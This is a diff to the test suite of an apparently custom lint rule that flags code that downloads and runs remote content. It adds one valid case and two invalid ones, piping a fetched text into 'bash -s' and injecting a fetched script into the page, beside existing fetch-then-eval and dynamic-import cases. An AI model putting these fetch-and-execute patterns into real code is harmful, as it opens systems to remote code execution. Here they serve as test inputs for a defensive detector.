@@ -45,6 +45,7 @@ const carried = (command: string): readonly { readonly code: string; readonly fi
 
 await ruleTester(rule, {
   valid: [
+    { code: 'import { execFileSync } from "node:child_process"; const diff = await (await fetch("https://api.example-service.com/diff")).text(); execFileSync("git", ["apply"], { input: diff });' },
     // what a known program takes as data; the types of a platform
     { code: 'import { execFileSync } from "node:child_process"; const { url } = await (await fetch("https://api.example-service.com/repo")).json(); execFileSync("gh", ["repo", "clone", url, dir]);' },
     { code: 'import { execFileSync } from "node:child_process"; const { token } = await (await fetch("https://api.example-service.com/login")).json(); execFileSync("/usr/bin/security", ["add-generic-password", "-s", "app", "-w", token]);' },
@@ -210,5 +211,7 @@ await ruleTester(rule, {
     bad(js("const code = await (await fetch('https://acme.example/x')).text();\neval(code);"), 'download'),
     bad(js("import axios from 'axios';\nconst { data } = await axios.get('https://acme.example/x');\nnew Function(data)();"), 'download'),
     bad({ ...js("await import('https://cdn.acme.example/a.js');"), ...strict }, 'module'),
+    { code: 'import { execFileSync } from "node:child_process"; const text = await (await fetch("https://api.example-service.com/diff")).text(); execFileSync("bash", ["-s"], { input: text });', errors: [{ messageId: 'download' }] },
+    { code: 'const script = document.createElement("script"); script.textContent = await (await fetch("https://cdn.example-service.com/p.js")).text(); document.head.append(script);', errors: [{ messageId: 'download' }] },
   ],
 });
